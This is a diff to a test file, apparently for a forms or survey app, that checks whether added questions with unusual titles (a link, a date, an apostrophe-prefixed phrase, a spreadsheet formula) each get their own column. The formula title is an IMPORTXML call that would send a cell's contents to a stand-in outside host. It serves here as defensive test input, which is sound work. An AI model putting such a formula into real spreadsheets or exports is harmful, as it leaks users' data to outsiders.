@@ -218,9 +218,13 @@ describe('an added question', () => {
   });
 });
 
-it('an added question whose title is a link gets its column like any other', () => {
+it.each([
+  ['a link', 'https://riverbend.example/notice'],
+  ['a formula', '=IMPORTXML("https://outside.example/?"&C3)'],
+  ['a date', '9/14'],
+  ['what begins with an apostrophe', "'Twas a good year?"],
+])('an added question whose title is %s gets its column like any other', (_, title) => {
   const programme = ready.copy();
-  const title = 'https://riverbend.example/notice';
   programme.answer(SAM);
   addItemByHand(programme.workspace, LEAD, programme.formId, 'TEXT', { title });
   programme.answer(ANA, { [title]: 'Read it.' });
